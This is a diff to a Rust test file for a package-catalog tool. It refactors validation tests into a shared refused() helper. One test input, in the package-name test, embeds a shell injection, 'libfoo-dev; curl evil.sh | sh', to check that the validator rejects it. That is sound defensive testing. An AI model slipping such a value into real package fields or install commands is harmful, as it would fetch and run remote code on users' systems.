@@ -5,6 +5,14 @@ use basefit::model::OsFamily;
 use basefit::native::Catalog;
 use basefit::native::catalog::FactSource;
 
+/// The error a user catalog file named `site.yaml` holding `text` is refused with.
+fn refused(text: &str) -> String {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("site.yaml");
+    std::fs::write(&path, text).unwrap();
+    Catalog::with_override(&path).unwrap_err().to_string()
+}
+
 #[test]
 fn debian_entries_agree_with_the_archive_extract() {
     // Source: Debian's package archive, Debian 12 (bookworm), file lists from `dpkg -c` of the
@@ -188,12 +196,9 @@ fn a_runtime_list_is_read_and_checked() {
         ("[]", "site.yaml:4:"),
         ("[libquokka1, libquokka1]", "site.yaml:4:"),
     ] {
-        std::fs::write(
-            &path,
-            format!("libraries:\n  - id: quokka-codec\n    families:\n      debian: {{dev: libquokka-dev, runtime: {runtime}}}\n"),
-        )
-        .unwrap();
-        let e = Catalog::with_override(&path).unwrap_err().to_string();
+        let e = refused(&format!(
+            "libraries:\n  - id: quokka-codec\n    families:\n      debian: {{dev: libquokka-dev, runtime: {runtime}}}\n"
+        ));
         assert!(
             e.contains(want) && e.contains("`runtime`"),
             "{runtime}: {e}"
@@ -253,14 +258,9 @@ fn malformed_catalog_gives_a_clear_error() {
 /// without a word: refused at the second key's line, as every other repeated key is.
 #[test]
 fn a_family_given_twice_in_one_library_is_refused() {
-    let dir = tempfile::tempdir().unwrap();
-    let path = dir.path().join("site.yaml");
-    std::fs::write(
-        &path,
+    let e = refused(
         "libraries:\n  - id: libfoo\n    families:\n      debian: {dev: libfoo-dev}\n      alpine: {dev: foo-dev}\n      debian: {dev: libother-dev}\n",
-    )
-    .unwrap();
-    let e = Catalog::with_override(&path).unwrap_err().to_string();
+    );
     assert!(
         e.contains("site.yaml:6:") && e.contains("family `debian` given twice"),
         "{e}"
@@ -272,8 +272,6 @@ fn a_family_given_twice_in_one_library_is_refused() {
 /// line; so is a family that names no package, which would count as known and advise nothing.
 #[test]
 fn catalog_package_names_are_package_names() {
-    let dir = tempfile::tempdir().unwrap();
-    let path = dir.path().join("site.yaml");
     for (family, want) in [
         (
             "debian: {dev: \"libfoo-dev; curl evil.sh | sh\", runtime: libfoo}",
@@ -289,12 +287,9 @@ fn catalog_package_names_are_package_names() {
         ),
         ("debian: {}", "family debian: names no package"),
     ] {
-        std::fs::write(
-            &path,
-            format!("libraries:\n  - id: libfoo\n    families:\n      {family}\n"),
-        )
-        .unwrap();
-        let e = Catalog::with_override(&path).unwrap_err().to_string();
+        let e = refused(&format!(
+            "libraries:\n  - id: libfoo\n    families:\n      {family}\n"
+        ));
         assert!(
             e.contains("site.yaml:4:") && e.contains(want),
             "{family}: {e}"
@@ -331,12 +326,9 @@ fn debian_package_names_follow_debian_policy() {
             "`runtime` package `f` is not a Debian package name",
         ),
     ] {
-        std::fs::write(
-            &path,
-            format!("libraries:\n  - id: libfoo\n    families:\n      {family}\n"),
-        )
-        .unwrap();
-        let e = Catalog::with_override(&path).unwrap_err().to_string();
+        let e = refused(&format!(
+            "libraries:\n  - id: libfoo\n    families:\n      {family}\n"
+        ));
         assert!(
             e.contains("site.yaml:4:") && e.contains(want),
             "{family}: {e}"
@@ -367,12 +359,9 @@ fn empty_and_numeric_aliases_and_empty_lookup_keys_are_refused() {
         ("link: [\"  \"]", "`link` has an empty entry"),
         ("pkg_config: [\"\"]", "`pkg_config` has an empty entry"),
     ] {
-        std::fs::write(
-            &path,
-            format!("libraries:\n  - id: quokka-codec\n    {field}\n    families:\n      debian: {{dev: libquokka-dev}}\n"),
-        )
-        .unwrap();
-        let e = Catalog::with_override(&path).unwrap_err().to_string();
+        let e = refused(&format!(
+            "libraries:\n  - id: quokka-codec\n    {field}\n    families:\n      debian: {{dev: libquokka-dev}}\n"
+        ));
         assert!(
             e.contains("site.yaml:3:") && e.contains(want),
             "{field}: {e}"
@@ -440,36 +429,27 @@ fn a_source_build_needs_the_development_package_the_catalog_names() {
 fn a_header_two_libraries_claim_is_refused() {
     let dir = tempfile::tempdir().unwrap();
     let path = dir.path().join("site.yaml");
-    std::fs::write(
-        &path,
+    let e = refused(
         "libraries:\n  - id: quokka-codec\n    headers: [quokka/codec.h]\n  - id: my-zlib\n    headers:\n      - my-zlib.h\n      - zlib.h\n    families:\n      debian: {dev: my-zlib-dev}\n",
-    )
-    .unwrap();
-    let e = Catalog::with_override(&path).unwrap_err().to_string();
+    );
     assert!(
         e.contains("site.yaml:7:")
             && e.contains("library `my-zlib`: header `zlib.h` is also library `zlib`'s"),
         "{e}"
     );
     // Names and aliases are looked up in lower case; the message shows them as written.
-    std::fs::write(
-        &path,
+    let e = refused(
         "libraries:\n  - id: my-z\n    aliases: [LibZ]\n    families:\n      debian: {dev: my-z-dev}\n",
-    )
-    .unwrap();
-    let e = Catalog::with_override(&path).unwrap_err().to_string();
+    );
     assert!(
         e.contains("site.yaml:3:")
             && e.contains("library `my-z`: name or alias `LibZ` is also library `zlib`'s"),
         "{e}"
     );
     // An id is a name too: its clash is at the `id` line, which is also the entry's.
-    std::fs::write(
-        &path,
+    let e = refused(
         "libraries:\n  - summary: another zlib\n    id: libz\n    families:\n      debian: {dev: my-z-dev}\n",
-    )
-    .unwrap();
-    let e = Catalog::with_override(&path).unwrap_err().to_string();
+    );
     assert!(
         e.contains("site.yaml:3:")
             && e.contains("library `libz`: name or alias `libz` is also library `zlib`'s"),
